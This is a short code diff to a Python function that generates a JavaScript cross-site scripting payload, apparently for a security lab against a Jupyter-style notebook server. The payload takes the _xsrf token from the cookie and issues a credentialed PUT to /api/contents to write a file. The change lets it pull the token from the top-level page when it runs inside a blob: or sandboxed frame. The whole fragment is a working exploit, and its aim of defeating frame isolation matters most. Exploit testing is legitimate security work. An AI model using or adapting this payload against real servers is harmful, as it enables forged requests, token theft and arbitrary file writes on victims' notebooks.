@@ -36,7 +36,8 @@ def payload_js(vector: str) -> str:
             "console.log('NNLAB-PWNED '+v);"
             # not '/api/...': a <base> would move it (and blob: documents have no host of their own)
             "const o=location.origin&&location.origin!=='null'?location.origin:'';"
-            "let m=null;try{m=document.cookie.match(/(?:^|;\\s*)_xsrf=([^;]*)/);}catch(e){}"  # opaque origins throw
+            # the top page's cookie: a blob: frame has none of its own; an opaque origin throws
+            "let m=null;for(const d of [()=>top.document,()=>document]){try{m=m||d().cookie.match(/(?:^|;\\s*)_xsrf=([^;]*)/);}catch(e){}}"
             "const h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};"
             "await fetch(o+'/api/contents/'+%s,{method:'PUT',headers:h,credentials:'include',"
             "body:JSON.stringify({type:'file',format:'text',content:v})});"
